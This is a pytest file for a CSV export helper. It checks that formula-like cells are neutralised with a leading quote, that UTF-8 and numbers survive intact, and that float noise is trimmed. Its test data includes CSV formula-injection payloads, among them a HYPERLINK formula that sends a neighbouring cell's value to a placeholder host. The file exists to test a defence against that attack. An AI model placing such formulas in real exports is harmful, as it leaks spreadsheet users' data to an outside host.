"""CSV downloads as spreadsheets open them (engine/spreadsheets.py)."""

from __future__ import annotations

import io
from datetime import datetime

import polars as pl
import pytest

from engine.spreadsheets import BYTE_ORDER_MARK, csv_bytes


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&B2,"open")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_a_text_cell_a_spreadsheet_would_run_is_text(name):
    data = csv_bytes(pl.DataFrame({"name": [name], "attempts": [3]}))
    back = pl.read_csv(io.BytesIO(data))
    assert back["name"][0] == "'" + name and back["attempts"][0] == 3


def test_other_cells_and_numbers_are_as_they_were_and_the_file_says_utf8():
    frame = pl.DataFrame({"name": ["Ürlaub", "a=b", "Ada Lovelace", None], "score": [-1.5, 2.0, 0.0, None]})
    data = csv_bytes(frame)
    assert data.startswith(BYTE_ORDER_MARK.encode()) and "Ürlaub".encode() in data
    assert pl.read_csv(io.BytesIO(data)).equals(frame)


def test_options_reach_the_writer():
    frame = pl.DataFrame({"at": [datetime(2026, 3, 2, 9, 30)]})
    assert b"2026-03-02 09:30" in csv_bytes(frame, datetime_format="%Y-%m-%d %H:%M")


def test_decimals_are_written_without_the_noise_of_binary_fractions():
    minutes = 427.6 + 0.1  # 427.70000000000005 in binary floats
    frame = pl.DataFrame({"minutes": [minutes, 0.1 + 0.2, 1e-12, 123456789.123, None], "n": [1, 2, 3, 4, 5]})
    lines = csv_bytes(frame).decode().removeprefix(BYTE_ORDER_MARK).splitlines()
    assert lines == ["minutes,n", "427.7,1", "0.3,2", "1e-12,3", "123456789.123,4", ",5"]
